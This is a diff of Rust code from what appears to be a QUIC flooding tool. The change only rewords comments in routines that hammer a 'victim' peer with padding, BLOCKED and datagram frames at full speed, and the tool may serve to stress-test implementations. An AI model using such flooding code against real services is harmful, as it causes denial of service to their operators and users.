@@ -15,7 +15,7 @@ use super::{
 
 /// The length of a message. It is below every peer's `max_record_size`.
 const MESSAGE: usize = 16 * 1024;
-/// The pause between two attempts to connect if the victim refuses.
+/// The pause between two attempts to connect while the victim refuses connections.
 const PATIENCE: Duration = Duration::from_millis(10);
 
 pub async fn flood(attack: Attack, address: SocketAddr, until: Instant) -> Result<Told> {
@@ -78,8 +78,7 @@ async fn at_full_speed(attack: Attack, raw: &mut Raw) -> Result<Infallible> {
         Attack::Padding => same(raw, |out| out.push(0)).await,
         Attack::Blocked => {
             raw.send(stream_frame(0, 0, b"x", false)).await?;
-            // Blocked frames for the connection, a stream, bidirectional and unidirectional
-            // streams.
+            // BLOCKED frames for the connection, for a stream, and for both kinds of streams.
             same(raw, |out| varints(out, &[0x14, 1, 0x15, 0, 1, 0x16, 1, 0x17, 1])).await
         }
         Attack::Datagrams => same(raw, |out| varints(out, &[0x31, 1, 7])).await,
